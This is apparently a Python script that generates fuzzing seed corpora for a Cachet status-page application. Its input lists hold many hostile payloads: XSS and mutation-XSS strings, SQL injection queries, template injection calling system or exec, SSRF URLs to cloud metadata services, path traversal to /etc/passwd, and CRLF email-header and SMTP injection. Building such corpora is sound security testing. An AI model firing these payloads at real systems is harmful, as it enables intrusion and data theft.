#!/usr/bin/env python3
"""Writes the seed corpora fuzz/corpus/<target>/ (idempotent; run from anywhere).

Sources: hostile inputs per input path (Markdown/HTML XSS, plain text, Unicode, CR/LF,
paths, queries, JSON bodies, cookies and tokens), the shapes of Cachet's CVEs, and a selection
of CommonMark spec examples (written from the spec's sections:
tabs, thematic breaks, headings, code, HTML blocks, link reference definitions, block quotes,
lists, inlines, emphasis, links, images, autolinks, raw HTML, hard breaks, entities, GFM
tables/strikethrough/task lists). Files are named seed-<nnn>; libFuzzer adds its own
(hash-named) files when run with the corpus directory, which are not committed."""
import os, struct, shutil

HERE = os.path.dirname(os.path.abspath(__file__))

# ---- Markdown / HTML: link schemes, raw HTML, mutation XSS, oversized; plain text ----------
XSS = r"""[a](javascript:alert(1))
[a](JaVaScRiPt:alert(1))
[a](  javascript:alert(1))
[a](j    a   v   a   s   c   r   i   p   t:alert(1))
[a](javascript&#58;alert(1))
[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29)
[a](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))
[a](Javas&#99;ript:alert(1&#41;)
[a](javascript://%0d%0aalert(1))
[a](jav&#x09;ascript:alert(1))
[a](jav&#x0A;ascript:alert(1))
[a](jav&#x0D;ascript:alert(1))
<a href=" &#14;  javascript:alert(1)">x</a>
<javascript:alert(1)>
<&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>
[citelol]: (javascript:alert(1))\n\n[x][citelol]
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[a](Data:text/html,<script>alert(1)</script>)
[a](&#x64&#x61&#x74&#x61&#x3a,alert(1))
[a](vbscript:msgbox(1))
[a](file:///etc/passwd)
[a](//evil.example/phish)
[a](\\evil.example)
[a](https://evil.example "title\" onmouseover=\"alert(1)")
![x'"`onerror=alert(1)](x)
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<a href="https://ok.example" onclick="evil()">x</a>
<div style="background:url(javascript:alert(1))">
<form action="https://evil"><button formaction="javascript:alert(1)">x</button></form>
<base href="https://evil/">
<meta http-equiv="refresh" content="0;url=https://evil">
<link rel=stylesheet href=//evil/x.css>
<object data="javascript:alert(1)">
<embed src=x>
<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>
<<SCRIPT>alert(1);//<</SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src="x` `<script>alert(1)</script>"` `>
# heading {onclick=alert(1) #x .y}
<a id=location>
<form name=body><input name=innerHTML>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg><iframe><a title="</iframe><img src onerror=alert(1)>">test
<svg><foreignObject><table><path><xmp><!--</xmp><img title'--&gt;&lt;img src=1 onerror=alert(1)&gt;'>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/><text y="30">x</text></a></svg>
<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><b title=></xmp><img src onerror=alert(1)>
<noembed><b title=></noembed><img src onerror=alert(1)>
<textarea><b title="</textarea><img src onerror=alert(1)>">
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
" autofocus onfocus=alert(1) x="
{{constructor.constructor('alert(1)')()}}
</script><script>alert(1)</script>
=HYPERLINK("http://evil","x")
<img src=x onerror="alert(1)">""".split("\n")

STRESS = [
    "<b>" * 3000, "<b-b>" * 3000, ">" * 5000 + "x", "[" * 3000 + "](x)", "*" * 5000 + "a",
    "_a" * 3000, "`" * 5000, "- " + "  - " * 1000, "| a |\n|---|\n" + "| b |\n" * 2000,
    "[x]: y\n" * 1000 + "[x]" * 1000, "&amp;" * 5000, "\U0001F468\u200D\U0001F469\u200D\U0001F467" * 1000,
]

COMMONMARK = [
    "\tfoo\tbaz\t\tbim", "  \tfoo\tbaz\t\tbim", "    a\ta\n    ὐ\ta", "  - foo\n\n\tbar",
    "- foo\n\n\t\tbar", ">\t\tfoo", "-\t\tfoo", "*\t*\t*\t",
    "- `one\n- two`", "***\n---\n___", "+++", "===", "--\n**\n__", " ***\n  ***\n   ***",
    "    ***", "Foo\n    ***", "_____________________________________", " - - -",
    " **  * ** * ** * **", "-     -      -      -", "- - - -    ", "_ _ _ _ a\n\na------\n\n---a---",
    " *-*", "- foo\n***\n- bar", "Foo\n***\nbar", "Foo\n---\nbar", "* Foo\n* * *\n* Bar",
    "- Foo\n- * * *", "# foo\n## foo\n### foo\n#### foo\n##### foo\n###### foo", "####### foo",
    "#5 bolt\n\n#hashtag", "\\## foo", "# foo *bar* \\*baz\\*", "#                  foo                     ",
    " ### foo\n  ## foo\n   # foo", "    # foo", "foo\n    # bar", "## foo ##\n  ###   bar    ###",
    "# foo ##################################\n##### foo ##", "### foo ###     ", "### foo ### b",
    "# foo#", "### foo \\###\n## foo #\\##\n# foo \\#", "****\n## foo\n****", "Foo bar\n# baz\nBar foo",
    "## \n#\n### ###", "Foo *bar*\n=========\n\nFoo *bar*\n---------", "Foo *bar\nbaz*\n====",
    "Foo\n-------------------------\n\nFoo\n=", "   Foo\n---\n\n  Foo\n-----\n\n  Foo\n  ===",
    "    Foo\n    ---\n\n    Foo\n---", "Foo\n= =\n\nFoo\n--- -", "`Foo\n----\n`\n\n<a title=\"a lot\n---\nof dashes\"/>",
    "> Foo\n---", "- Foo\n---", "    a simple\n      indented code block", "  - foo\n\n    bar",
    "1.  foo\n\n    - bar", "    <a/>\n    *hi*\n\n    - one", "    chunk1\n\n    chunk2\n  \n \n \n    chunk3",
    "```\n<\n >\n```", "~~~\n<\n >\n~~~", "``\nfoo\n``", "```\naaa\n~~~\n```", "````\naaa\n```\n``````",
    "```", "`````\n\n```\naaa", "> ```\n> aaa\n\nbbb", "```\n\n  \n```", " ```\n aaa\naaa\n```",
    "```ruby\ndef foo(x)\n  return 3\nend\n```", "~~~~    ruby startline=3 $%@#$\ndef foo(x)\n~~~~~~~",
    "````;\n````", "``` aa ```\nfoo", "~~~ aa ``` ~~~\nfoo\n~~~", "```\n``` aaa\n```",
    "<table><tr><td>\n<pre>\n**Hello**,\n\n_world_.\n</pre>\n</td></tr></table>",
    " <div>\n  *hello*\n         <foo><a>", "</div>\n*foo*", "<DIV CLASS=\"foo\">\n\n*Markdown*\n\n</DIV>",
    "<div id=\"foo\"\n  class=\"bar\">\n</div>", "<div></div>\n``` c\nint x = 33;\n```",
    "<a href=\"foo\">\n*bar*\n</a>", "<Warning>\n*bar*\n</Warning>", "<del>*foo*</del>",
    "<pre language=\"haskell\"><code>\nimport Text.HTML.TagSoup\n</code></pre>\nokay",
    "<script type=\"text/javascript\">\n// JavaScript example\n</script>\nokay",
    "<style\n  type=\"text/css\">\nh1 {color:red;}\n</style>\nokay", "<!-- Foo\n\nbar\n   baz -->\nokay",
    "<?php\n\n  echo '>';\n\n?>\nokay", "<!DOCTYPE html>", "<![CDATA[\nfunction matchwo(a,b)\n]]>\nokay",
    "[foo]: /url \"title\"\n\n[foo]", "   [foo]: \n      /url  \n           'the title'  \n\n[foo]",
    "[Foo*bar\\]]:my_(url) 'title (with parens)'\n\n[Foo*bar\\]]", "[foo]: /url 'title\n\nwith blank line'\n\n[foo]",
    "[foo]:\n\n[foo]", "[foo]: <>\n\n[foo]", "[foo]: <bar>(baz)\n\n[foo]", "[foo]: /url\\bar\\*baz \"foo\\\"bar\\baz\"\n\n[foo]",
    "[foo]\n\n[foo]: url", "[FOO]: /url\n\n[Foo]", "[ΑΓΩ]: /φου\n\n[αγω]", "> # Foo\n> bar\n> baz",
    "># Foo\n>bar\n> baz", "> # Foo\n> bar\nbaz", "> - foo\n- bar", ">     foo\n    bar", "> ```\nfoo\n```",
    ">\n", "> foo\n\n> bar", "> aaa\n***\n> bbb", "> > > foo\nbar", ">>> foo\n> bar\n>>baz",
    "A paragraph\nwith two lines.\n\n    indented code\n\n> A block quote.",
    "1.  A paragraph\n    with two lines.\n\n        indented code\n\n    > A block quote.",
    "- one\n\n two", "   > > 1.  one\n>>\n>>     two", "-one\n\n2.two", "- foo\n\n\n  bar",
    "123456789. ok", "1234567890. not ok", "0. ok", "003. ok", "-1. not ok", "- foo\n\n      bar",
    "-\n  foo\n-\n  ```\n  bar\n  ```\n-\n      baz", "- foo\n-\n- bar", "1. a\n\n  2. b\n\n    3. c",
    "- a\n - b\n  - c\n   - d\n    - e", "- # Foo\n- Bar\n  ---\n  baz", "- foo\n- bar\n+ baz",
    "1. foo\n2. bar\n3) baz", "The number of windows in my house is\n14.  The number of doors is 6.",
    "- a\n- b\n\n- c", "* a\n*\n\n* c", "- a\n  > b\n  ```\n  c\n  ```\n- d",
    "`hi`lo`", "\\!\\\"\\#\\$\\%\\&\\'\\(\\)\\*\\+\\,\\-\\.\\/\\:\\;\\<\\=\\>\\?\\@\\[\\\\\\]\\^\\_\\`\\{\\|\\}\\~",
    "\\\t\\A\\a\\ \\3\\φ\\«", "\\*not emphasized*\n\\<br/> not a tag\n\\[not a link](/foo)\n\\`not code`",
    "foo\\\nbar", "`` \\[\\` ``", "<http://example.com?find=\\*>", "<a href=\"/bar\\/)\">",
    "[foo](/bar\\* \"ti\\*tle\")", "&nbsp; &amp; &copy; &AElig; &Dcaron;\n&frac34; &HilbertSpace; &DifferentialD;",
    "&#35; &#1234; &#992; &#0;", "&#X22; &#XD06; &#xcab;", "&nbsp &x; &#; &#x;\n&#87654321;\n&#abcdef0;",
    "&MadeUpEntity;", "<a href=\"&ouml;&ouml;.html\">", "[foo](/f&ouml;&ouml; \"f&ouml;&ouml;\")",
    "`f&ouml;&ouml;`", "&#42;foo&#42;\n*foo*", "foo&#10;&#10;bar", "&#9;foo", "[a](url &quot;tit&quot;)",
    "``` foo ` bar ```", "`  ``  `", "`foo\\`bar`", "*foo bar*", "a * foo bar*", "a*\"foo\"*",
    "* a *", "foo*bar*", "5*6*78", "_foo bar_", "_ foo bar_", "a_\"foo\"_", "foo_bar_", "пристаням_стремятся_",
    "aa_\"bb\"_cc", "foo-_(bar)_", "_foo*", "*foo bar *", "*(*foo)", "*(*foo*)*", "**foo bar**",
    "** foo bar**", "__foo, __bar__, baz__", "*foo [bar](/url)*", "*foo\nbar*", "_foo __bar__ baz_",
    "***foo** bar*", "foo***bar***baz", "*foo**bar***", "**foo*bar*baz**", "*foo [*bar*](/url)*",
    "[link](/uri \"title\")", "[link](/uri)", "[](./target.md)", "[link]()", "[link](<>)", "[link](/my uri)",
    "[link](</my uri>)", "[link](foo\nbar)", "[a](<b)c>)", "[link](\\(foo\\))", "[link](foo(and(bar)))",
    "[link](foo\\(and\\(bar\\))", "[link](#fragment)\n\n[link](https://example.com#fragment)",
    "[link](foo\\bar)", "[link](foo%20b&auml;)", "[link](\"title\")", "[link](/url \"title \"and\" title\")",
    "[link](   /uri\n  \"title\"  )", "[link [foo [bar]]](/uri)", "[link] bar](/uri)", "[link \\[bar](/uri)",
    "[![moon](moon.jpg)](/uri)", "[foo [bar](/uri)](/uri)", "![[[foo](uri1)](uri2)](uri3)",
    "*[foo*](/uri)", "[foo *bar](baz*)", "[foo <bar attr=\"](baz)\">", "[foo`](/uri)`",
    "[foo<http://example.com/?search=](uri)>", "![foo](/url \"title\")", "![foo *bar*][]\n\n[foo *bar*]: train.jpg \"train & tracks\"",
    "<http://foo.bar.baz>", "<https://foo.bar.baz/test?q=hello&id=22&boolean>", "<irc://foo.bar:2233/baz>",
    "<MAILTO:FOO@BAR.BAZ>", "<a+b+c:d>", "<made-up-scheme://foo,bar>", "<localhost:5001/foo>",
    "<http://foo.bar/baz bim>", "<foo@bar.example.com>", "<foo+special@Bar.baz-bar0.com>", "<foo\\+@bar.example.com>",
    "<a><bab><c2c>", "<a/><b2/>", "<a  /><b2\ndata=\"foo\" >", "<a foo=\"bar\" bam = 'baz <em>\"</em>'\n_boolean zoop:33=zoop:33 />",
    "Foo <responsive-image src=\"foo.jpg\" />", "<33> <__>", "<a h*#ref=\"hi\">", "<a href=\"hi'> <a href=hi'>",
    "foo <!-- this is a\ncomment - with hyphen -->", "foo <?php echo $a; ?>", "foo <!ELEMENT br EMPTY>",
    "foo <![CDATA[>&<]]>", "foo <a href=\"&ouml;\">", "foo  \nbaz", "foo\\\nbaz", "foo       \nbaz",
    "*foo  \nbar*", "`code  \nspan`", "<a href=\"foo  \nbar\">", "foo\\", "foo  ", "### foo\\", "### foo  ",
    "hello $.;'there", "Foo χρῆν", "Multiple     spaces",
    "| foo | bar |\n| --- | --- |\n| baz | bim |", "| abc | defghi |\n:-: | -----------:\nbar | baz",
    "| f\\|oo  |\n| ------ |\n| b `\\|` az |\n| b **\\|** im |", "| abc | def |\n| --- | --- |\n| bar | baz |\n> bar",
    "| abc | def |\n| --- |\n| bar |", "| abc | def |\n| --- | --- |", "~~Hi~~ Hello, ~there~ world!",
    "This ~~has a\n\nnew paragraph~~.", "- [ ] foo\n- [x] bar", "- [x] foo\n  - [ ] bar\n  - [x] baz\n- [ ] bim",
    "1. [javascript:alert(1)](javascript:alert(1))", "Incident **resolved** at 12:00 UTC. See <https://status.example.com>.",
]

# ---- Plain-text values, unicode, email, URLs, slugs (3.2-3.4, 3.7, 3.8) --------------------
TEXTS = [
    "API", "Payments API", "Pаyments API", "ΑΡΙ Gateway", "ＡＰＩ", "paypaI", "Database\u202E}lanoitarepO{",
    "\u2066\u2067\u2068 x \u2069", "API\u200B", "API\u200D", "\uFEFFAPI", "A\u00ADPI", "é", "e\u0301", "ﬁle",
    "Z̷̢̛a̵̡l̶g̸o̶", "a\u0000b", "\u0007", "\u001b[31mred", "a\u2028b", "a\u2029b", "İıß", "  padded  ",
    "a\r\nSet-Cookie: x=y", "line1\nline2", "tab\there", "x" * 256, "x" * 255, "",
    "victim@example.com", "victim@example.com\r\nBcc: all@evil.example", "victim@example.com%0d%0aBcc:%20x@evil.example",
    "\"attacker\r\nBcc: x@evil.example\"@example.com", "Name\r\nSubject: spoofed <a@example.com>",
    "-oQ/tmp/@example.com", "\"-X/tmp/log\"@example.com", "a@[127.0.0.1]", "a@localhost", "a@xn--pple-43d.com",
    "ａ@example.com", "\"a b\"@example.com", "a..b@example.com", ".a@example.com", "a@example.com.",
    "a" * 65 + "@example.com", "a@" + "b" * 250 + ".com", "A@EXAMPLE.COM", "a@b.c1", "a@1.2",
    "https://status.example.com", "HTTPS://Status.Example.COM/path?q=1#f", "http://[::1]:8080/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/",
    "http://127.0.0.1:6379/", "http://[::ffff:127.0.0.1]/", "http://2130706433/", "http://0x7f.1/", "http://0/",
    "http://localtest.me/", "https://ok.example/redirect?to=http://127.0.0.1", "gopher://127.0.0.1:6379/_x",
    "file:///etc/passwd", "dict://x", "//evil.example", "/\\evil.example", "https:evil.example", "javascript:alert(1)",
    "https://bank.com@evil.example", "http://a:0/", "http://a:65536/", "https://x.example/a b",
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "%252e%252e%252f", "..\\..\\windows", "%c0%ae%c0%ae/",
    "．．／", "slug%00.html", "slug/", "/slug", "slug;jsessionid=x", "con", "nul", ".git", ".env", "-rf", "a..b",
    "a--b", "my-component-1", "x" * 65, "en", "de", "pt-BR", "pt_BR", "zh-Hans", "../../../../etc/passwd%00",
    "UTC", "Europe/Berlin", "America/Argentina/Buenos_Aires", "Etc/GMT+5", "../etc", "Europe/./Berlin",
    "1", "1.5", "-0", "1e999999", "NaN", "inf", "18446744073709551616", "9007199254740993", "0.001", "0.0001",
    "{\"a\":1}", "{\"a\":{\"b\":[1,2,{\"c\":null}]}}", "[]", "{}", "{\"__proto__\":{\"isAdmin\":true}}",
    "${DB_PASSWORD}", "$APP_KEY", "{{secret}}", "%(password)s", "' OR '1'='1", "%", "_", "\\",
]

# ---- Phone numbers (SMS): as typed, national, 00-prefixed, non-mobile, hostile -----------------
PHONES = [
    "+1 (201) 555-0123", "+14155550123", "+44 (0)7400 123456", "+4915123456789", "0049 1512 3456789",
    "0151 23456789", "(415) 555-0123", "+44 20 7946 0123", "+1 900 234 5678", "+800 1234 5678",
    "+1 415 555 0123 ext. 4", "tel:+1-201-555-0123;ext=4", "+1;phone-context=+1", ".;phone-context=",
    "+١٤١٥", "+1\r\n2015550123", "+" + "9" * 40, "++1", "+0", "+",
]

SSTI = ["{{[\"id\"]|filter(\"system\")}}", "{{ 7*7 }}", "{% include \"/etc/passwd\" %}", "{{ self }}",
        "@php system('id') @endphp", "{!! 1 !!}", "${7*7}", "<%= 7*7 %>", "{{['id',\"\"]|sort('passthru')}}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "{{ incident.name }}", "{{v}}", "{{ v }} and {{ v }}",
        "{{\tv\t}}", "{{ unknown }}", "{{ a.b.c }}", "{{", "}}", "{# comment #}", "{{ v", "# {{ v }}", "[{{ v }}](https://x.example)",
        "`{{ v }}`", "    {{ v }}", "> {{ v }}", "- {{ v }}", "| {{ v }} |\n|---|\n| {{ v }} |"]

# ---- JSON bodies (3.5) -----------------------------------------------------------------------
JSON = ['{"name":"API","status":1}', '[' * 200 + ']' * 200, '{"a":' * 100 + '1' + '}' * 100,
        '{"status": 1, "status": 4}', '{"status": 18446744073709551616}', '{"value": 1e999999}', '{"value": -0}',
        '{"value": NaN}', '{"value": 1.0}', '{"order": 9007199254740993}', '{"name": "\\ud800"}', '{"name": "a\\u0000b"}',
        '{"name":"x","level":"admin"}', '{"id": 7, "created_by": 1}', '{"status": "4"}', '{"status": true}',
        '{"component_id": -1}', '{"component_id": 0}', '{"component_id": 9223372036854775807}',
        '{"occurred_at": "9999-12-31T23:59:60Z"}', '{"occurred_at": "0000-00-00"}', '{"occurred_at": "2026-13-45"}',
        '{"occurred_at": "1e10"}', '{"__proto__": {"isAdmin": true}}', '\ufeff{"name":"x"}', '{"name":"x",}',
        '{"name":"x" /* c */}', '"scalar"', '42', 'null', '[]', '{}', '',
        '{"name":"<script>alert(1)</script>","message":"<img src=x onerror=alert(1)>","status":1,"visible":1}',
        '{"name":"n","message":"m","status":1,"template":"t","vars":{"v":"[x](javascript:alert(1))"}}',
        '{"name":"n","message":"m","status":1,"vars":[]}', '{"name":"n","status":1,"component_ids":[1,2,"x"]}',
        '{"meta":{"a":{"b":{"c":{"d":1}}}}}', '{"link":"javascript:alert(1)","name":"x","status":1}',
        '{"email":"victim@example.com\\r\\nBcc: x@evil.example"}', '{"email":"a@b.co","components":[1,2]}',
        '{"value":1,"timestamp":"not-a-number"}', '{"value":"1.5","timestamp":1767225600}',
        '{"name":"T","template":"{{[\\"id\\"]|filter(\\"system\\")}}"}', '{"tags":"a,b,,c"}', '{"tags":["a","b"]}',
        '{"scheduled_at":"2026-01-01 00:00","completed_at":"2025-01-01 00:00","name":"x","message":"y","status":0}',
        '{"status": 1, "name": "' + 'x' * 300 + '"}']
QUERIES = ["", "sort=name;DROP TABLE users--", "sort=name desc", "sort=(SELECT 1)", "sort=1", "sort=NAME", "sort=",
           "order=asc;--", "order=DESC", "order=desc,(select sleep(5))", "name=1&1[0]=&1[1]=a&1[2]=&1[3]=or+'a'=?+and+1=1)+--+",
           "name[]=a&name[]=b", "name[$ne]=", "status[gt]=0", "name=a&name=b", "per_page=-1", "per_page=0",
           "per_page=1000000", "per_page=99999999999999999999", "per_page=1e3", "page=-5", "q=%25", "q=_",
           "q=%25%25%25%25", "q=\\", "q='+OR+'1'='1", "since=2026-01-01'--", "ids=1,2,3,'x'", "id[]=1&id[]=2",
           "status=1&sort=id&order=desc&per_page=2&page=2", "enabled=true", "enabled=yes", "group_id=1",
           "name=API", "visible=1", "%ZZ=1", "a=%", "&&&=&="]

def write(target, items):
    d = os.path.join(HERE, "corpus", target)
    if os.path.isdir(d):
        shutil.rmtree(d)
    os.makedirs(d)
    seen = set()
    n = 0
    for item in items:
        data = item.encode("utf-8", "surrogatepass") if isinstance(item, str) else item
        if data in seen:
            continue
        seen.add(data)
        n += 1
        with open(os.path.join(d, f"seed-{n:03d}"), "wb") as f:
            f.write(data)
    return n

def main():
    counts = {}
    md = [x.replace("\\n", "\n") for x in XSS] + STRESS + COMMONMARK
    counts["markdown_sanitize"] = write("markdown_sanitize", md)
    counts["validate_inputs"] = write("validate_inputs", TEXTS + XSS[:20] + PHONES)
    tpl = [f"{t}\n{v}" for t in SSTI for v in ("", "x")] + \
          [f"Update: {{{{ v }}}}\n{v}" for v in XSS + TEXTS[:30] + ["*a*", "**b**", "`c`", "# h", "- l", "1. l", "> q",
           "    code", "\tcode", "[l](https://x.example)", "<https://x.example>", "a  \nb", "&amp;", "&#x3C;", "\\*", "|a|b|"]]
    counts["template_render"] = write("template_render", tpl)
    # api_v1_json: route byte, caller byte, query, LF, body. Route indices follow API_ROUTES.
    api = []
    for r in range(28):
        for body in (JSON[0], JSON[34], JSON[44], ""):
            api.append(bytes([r, 0]) + b"\n" + body.encode())
    for i, body in enumerate(JSON):
        api.append(bytes([i % 28, i % 2]) + b"\n" + body.encode("utf-8", "surrogatepass"))
    for i, q in enumerate(QUERIES):
        api.append(bytes([[0, 4, 7, 15, 20, 23][i % 6], 0]) + q.encode() + b"\n")
    counts["api_v1_json"] = write("api_v1_json", api)
    faq = [bytes([i % 6]) + q.encode() + b"\n" + b for i, q in enumerate(QUERIES)
           for b in (b"", b"name=x&status=1&component_ids[]=1&vars[v]=a")] + \
          [bytes([0]) + b"\n" + j.encode("utf-8", "surrogatepass") for j in JSON] + \
          [bytes([1]) + b"\nname=a&name[]=b&x[y]=z&%ZZ&=&a=%", bytes([2]) + b"\n{\"a\":1}", bytes([3]) + b"\n   {\"a\":[]}"]
    counts["form_and_query"] = write("form_and_query", faq)
    cookies = ["__Host-cachet_session=" + "A" * 43, "cachet_session=" + "a-b_" * 10 + "abc",
               "__Host-cachet_session=" + "A" * 42, "a=b; __Host-cachet_session=" + "Z" * 43 + "; c=d",
               "__Host-cachet_session=" + "A" * 43 + "=", "__Host-cachet_session=<attacker-chosen value>",
               ";" * 100, "x=" * 50, "cachet_" + "0" * 48, "cachet_" + "a" * 40 + "deadbeef", "cachet_",
               "Bearer cachet_" + "0" * 48, "v1.1767232800." + "A" * 43, "v1.+1767232800." + "A" * 43, "v1..", "v1.x.y",
               "1.1." + "A" * 43, "01.1." + "A" * 43, "1.1.1.1", "abcd efgh ijkl mnop qrst uvwx", "ABCD-EFGH-IJKL-MNOP-QRST-UVWX",
               "https://status.example.com", "https://evil.example", "null", "same-origin", "cross-site", "same-site", "none",
               "A" * 43, "A" * 200, "\r\n", ""]
    counts["cookie_and_token"] = write("cookie_and_token", cookies)
    t0 = struct.pack("<q", 1767225600)
    codes = ["123 456", "１２３４５６", "12345", "1234567", "12345a", " 123456", "", "000000", "999999", "123456\n",
             "+12345", "-12345", "12345\u0660", "287082"]
    counts["totp_input"] = write("totp_input", [t0 + c.encode() for c in codes] +
                                 [struct.pack("<q", 59) + b"287082", struct.pack("<q", -1) + b"000000",
                                  struct.pack("<q", 2**62) + b"123456"])
    paths = ["/", "/incidents/1", "/schedules/1", "/components/1", "/components/1/badge.svg", "/badge.svg",
             "/component/1/shield", "/metrics/1", "/rss", "/atom", "/history.rss", "/history.atom", "/schedules.ics",
             "/api/v1/components?per_page=2", "/api/v1/incidents", "/api/v2/summary.json", "/api/v2/status.json",
             "/api/v2/components.json", "/api/v2/incidents.json", "/api/v2/incidents/unresolved.json",
             "/api/v2/scheduled-maintenances.json", "/health", "/subscribe", "/subscribe/verify/x", "/subscribe/manage/1.1.AAAA",
             "/unsubscribe/1.1.AAAA", "/auth/login", "/auth/2fa", "/setup", "/dashboard", "/dashboard/components",
             "/api/openapi.json", "/assets/app.css", "/incidents/../../etc/passwd", "/incidents/..%2f..%2fetc%2fpasswd",
             "/components/%2e%2e%2f", "/components/%252e%252e%252f", "/components/99999999999999999999", "/components/-1",
             "/incidents/1;jsessionid=x", "/%c0%ae%c0%ae/", "/?locale=../../../../etc/passwd%00", "/?theme=../../secrets",
             "/api/v1/components?name=1&1[0]=&1[1]=a&1[2]=&1[3]=or+'a'=?+and+1=1)+--+"]
    web = []
    for i, p in enumerate(paths):
        web.append(bytes([i % 3]) + f"GET {p}\naccept: text/html\n\n".encode())
    heads = ["POST /api/v1/components\ncontent-type: application/json\n\n{\"name\":\"x\",\"status\":1}",
             "POST /api/v1/components\ncontent-type: text/plain\n\nname=x&status=1",
             "POST /subscribe\ncontent-type: application/x-www-form-urlencoded\n\nemail=a%40b.co&_token=x",
             "POST /auth/login\ncontent-type: application/x-www-form-urlencoded\n\nemail=admin%40example.com&password=x",
             "POST /auth/logout\n\n", "GET /auth/logout\n\n", "GET /dashboard/user/1/api/regen\n\n",
             "GET /\nhost: evil.example\nx-forwarded-for: 127.0.0.1\nx-forwarded-host: evil.example\nx-original-url: /admin\n\n",
             "GET /\nx-forwarded-for: 1.2.3.4, 5.6.7.8\n\n", "DELETE /api/v1/components/1\nx-http-method-override: DELETE\n\n",
             "POST /api/v1/components/1?_method=DELETE\n\n", "OPTIONS /api/v2/summary.json\norigin: https://evil.example\naccess-control-request-method: GET\n\n",
             "GET /api/v2/summary.json\norigin: null\n\n", "GET /\nif-none-match: \"x\"\naccept-encoding: br, gzip\n\n",
             "GET /\naccept-language: de-DE,de;q=0.9\n\n", "GET /api/v1/incidents\ntime-zone: ../../etc\n\n",
             "GET /\ncookie: " + "a=b;" * 200 + "\n\n", "HEAD /\n\n", "PUT /\n\n", "BREW /\n\n", "GET /api/v1/components\nauthorization: Bearer cachet_bogus\n\n",
             "GET /api/v1/components?api_key=cachet_x\n\n", "POST /api/v1/incidents\ncontent-type: application/json\n\n" + JSON[34],
             "POST /setup\ncontent-type: application/x-www-form-urlencoded\n\ntoken=x&app_name=&email=a%40b.co&password=x",
             "POST /unsubscribe/1.1.AAAA\ncontent-type: application/x-www-form-urlencoded\n\nList-Unsubscribe=One-Click"]
    for i, h in enumerate(heads):
        for who in range(3):
            web.append(bytes([who]) + h.encode())
    counts["web_request"] = write("web_request", web)
    forms = ["email=admin%40example.com&password=tangerine+orbit+cactus+lullaby", "email=&password=",
             "email=admin%40example.com&password=x&_token=v1.1.x", "code=123456", "code=%EF%BC%91%EF%BC%92", "recovery=abcd-efgh",
             "token=x&name=Status&email=a%40b.co&password=velvet+harbor+quantum+pickle", "app_name=&app_name=0",
             "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E&status=1", "name=x&message=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&status=1",
             "current_password=&password=new+password+here+long", "mail_host=%24%7BDB_PASSWORD%7D",
             "cache_driver=file%0AREDIS_HOST%3Devil", "role=admin&level=1", "_method=DELETE", "a[b][c]=1&a[]=2", "%", "=&=&="]
    df = [bytes([r * 2 + who]) + f.encode() for r in range(22) for who in (0, 1) for f in forms[:4]] + \
         [bytes([i]) + f.encode() for i, f in enumerate(forms)]
    counts["dashboard_forms"] = write("dashboard_forms", df)
    # email_headers: subject, locale, unsubscribe URL, recipient, body (CR/LF header injection).
    subs = ["Outage", "Outage\r\nBcc: all@evil.example", "Incident: \"API\" <down>", "=?utf-8?b?QmNjOiB4?=",
            "Ümlaut — ✓ 漢字", "x" * 300, "Name\r\nSubject: spoofed <a@example.com>", "a\u2028b", "",
            "Outage\r\n\r\n<html>phish</html>"]
    locs = ["en", "pt-BR", "de", "en\r\nBcc: x@evil.example", "x-" + "a" * 40, "", "../../etc"]
    urls = ["https://status.example.com/unsubscribe/1.1.AAAA", "http://127.0.0.1/u", "https://s.example/u?x=1\r\nBcc:x",
            "javascript:alert(1)", "https://" + "a" * 950 + ".example", ""]
    tos = ["v@example.com", "victim@example.com\r\nBcc: all@evil.example", "\"a b\"@example.com", "-oQ/tmp/@example.com", ""]
    bodies = ["hi", "hi\r\n\r\n.\r\nMAIL FROM:<x@evil>\r\nRCPT TO:<y@victim>\r\nDATA\r\n", "<script>alert(1)</script>"]
    mails = []
    for i, sub in enumerate(subs):
        for j, loc in enumerate(locs[:3] if i > 2 else locs):
            k = i + j
            mails.append(f"{sub}\n{loc}\n{urls[k % len(urls)]}\n{tos[k % len(tos)]}\n{bodies[k % len(bodies)]}")
    counts["email_headers"] = write("email_headers", mails)
    for k, v in counts.items():
        print(f"{k}: {v} seeds")

main()
